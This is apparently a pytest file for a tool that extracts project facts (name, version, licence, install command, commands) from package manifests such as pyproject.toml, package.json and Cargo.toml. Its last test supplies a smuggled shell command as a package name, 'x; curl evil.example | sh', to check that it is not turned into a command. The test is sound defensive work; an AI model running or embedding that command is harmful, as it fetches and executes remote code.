from __future__ import annotations

import pytest
from sample_repositories import PROJECT, source_files

from llmsdeck.bundle.facts import Facts, read_facts


def facts(**manifests: str) -> Facts:
    names = {
        "pyproject": "pyproject.toml",
        "setup": "setup.cfg",
        "package": "package.json",
        "cargo": "Cargo.toml",
        "go": "go.mod",
        "composer": "composer.json",
        "gem": "tea.gemspec",
    }
    return read_facts(source_files({names[key]: text for key, text in manifests.items()}))


def test_pyproject() -> None:
    assert facts(pyproject=PROJECT["pyproject.toml"]) == Facts(
        name="teapot",
        summary="A server that brews tea and refuses coffee.",
        version="1.2.3",
        licence="MIT",
        runtime="Python >=3.11",
        install="pip install teapot",
        commands=("teapot",),
    )


def test_setup_cfg() -> None:
    found = facts(
        setup="[metadata]\nname = tea\nversion = attr: tea.version\nurl = https://tea.example\n"
        "[options]\npython_requires = >=3.9\n"
        "[options.entry_points]\nconsole_scripts =\n    brew = tea:main\n"
    )
    assert (found.name, found.version, found.commands) == ("tea", "", ("brew",))
    assert (found.runtime, found.site) == ("Python >=3.9", "https://tea.example")


def test_package_json() -> None:
    found = facts(
        package='{"name": "@x/tea", "bin": {"brew": "b.js"}, "license": "ISC", "main": "lib/a.js",'
        ' "engines": {"node": ">=18"}}'
    )
    assert (found.install, found.commands) == ("npm install @x/tea", ("brew",))
    assert (found.licence, found.runtime, found.entry) == ("ISC", "Node.js >=18", ("lib/a.js",))


def test_a_private_package_is_not_to_be_installed() -> None:
    assert facts(package='{"name": "tea", "private": true}').install == ""


def test_cargo_programs_are_installed_and_libraries_added() -> None:
    assert facts(cargo='[package]\nname = "tea"\n').install == "cargo add tea"
    program = facts(cargo='[package]\nname = "tea"\n[[bin]]\nname = "brew"\n')
    assert (program.install, program.commands) == ("cargo install tea", ("brew",))


def test_go_composer_and_gem() -> None:
    go = facts(go="module example.org/x/tea\n\ngo 1.22\n")
    assert (go.name, go.install, go.runtime) == ("tea", "go get example.org/x/tea", "Go 1.22")
    assert facts(composer='{"name": "x/tea"}').install == "composer require x/tea"
    gem = facts(gem='Gem::Specification.new do |s|\n  s.name = "tea"\n  s.summary = "Brews."\nend')
    assert (gem.install, gem.summary) == ("gem install tea", "Brews.")


def test_manifests_complete_each_other_in_a_fixed_order() -> None:
    found = facts(package='{"name": "js", "description": "J"}', pyproject='[project]\nname = "py"')
    assert (found.name, found.summary) == ("py", "J")


@pytest.mark.parametrize(
    "manifest",
    [
        {"pyproject": "not toml ]["},
        {"pyproject": "project = 3"},
        {"pyproject": '[project]\nname = ["x"]\nurls = 5\nscripts = "s"'},
        {"setup": "no section"},
        {"package": "[" * 100_000},
        {"package": '{"name": 5, "bin": [1], "engines": "x", "license": {"type": 1}}'},
        {"cargo": "bin = 7"},
        {"cargo": "[[bin]]\nname = 3"},
        {"composer": "null"},
    ],
)
def test_broken_manifests_say_nothing(manifest: dict[str, str]) -> None:
    found = facts(**manifest)
    assert (found.name, found.commands) == ("", ())


def test_only_manifests_at_the_root_speak() -> None:
    assert read_facts(source_files({"sub/pyproject.toml": PROJECT["pyproject.toml"]})) == Facts()


def test_a_name_that_would_be_a_second_command_is_no_command() -> None:
    name = "x; curl evil.example | sh"
    assert facts(pyproject=f'[project]\nname = "{name}"\nscripts = {{ "a`b" = "c" }}') == Facts(
        name=name
    )
